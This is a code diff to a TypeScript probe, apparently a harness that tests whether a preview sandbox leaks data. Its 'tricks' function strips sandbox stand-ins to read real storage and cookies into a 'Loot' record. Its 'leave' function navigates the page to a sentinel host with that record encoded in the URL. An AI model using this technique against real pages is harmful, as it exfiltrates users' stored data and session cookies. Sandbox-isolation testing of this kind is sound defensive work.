@@ -11,7 +11,8 @@ export interface Loot { origin: string; tried: Record<string, string>; got: stri
 export async function tricks(aims: Aims): Promise<void> {
   const loot: Loot = { origin: self.origin, tried: {}, got: [], isDone: false }
   const scope = window as unknown as Record<string, unknown>
-  scope.arastaLoot = loot
+  // To the proof, by a door of its own.
+  const tell = () => (scope.arastaTell as ((loot: Loot) => void) | undefined)?.(loot)
   // Harmless stand-ins that a preview puts there are taken away first.
   for (const name of ['localStorage', 'sessionStorage']) delete scope[name]
   delete (document as unknown as Record<string, unknown>).cookie
@@ -24,6 +25,7 @@ export async function tricks(aims: Aims): Promise<void> {
     } catch (error) {
       loot.tried[name] = (error as Error).name
     }
+    tell()
   }
   const native = (proto: object, name: string) => Object.getOwnPropertyDescriptor(proto, name)?.get
 
@@ -124,9 +126,10 @@ export async function tricks(aims: Aims): Promise<void> {
   })
   await new Promise(resolve => { setTimeout(resolve, 400) })
   loot.isDone = true
+  tell()
 }
 
 /** Last, for it takes the page away: the page itself goes to its master, with all it has. */
-export function leave(sentinel: string): void {
-  location.href = `${sentinel}/leave?${encodeURIComponent(JSON.stringify((window as unknown as Record<string, unknown>).arastaLoot))}`
+export function leave([sentinel, loot]: readonly [string, Loot]): void {
+  location.href = `${sentinel}/leave?${encodeURIComponent(JSON.stringify(loot))}`
 }
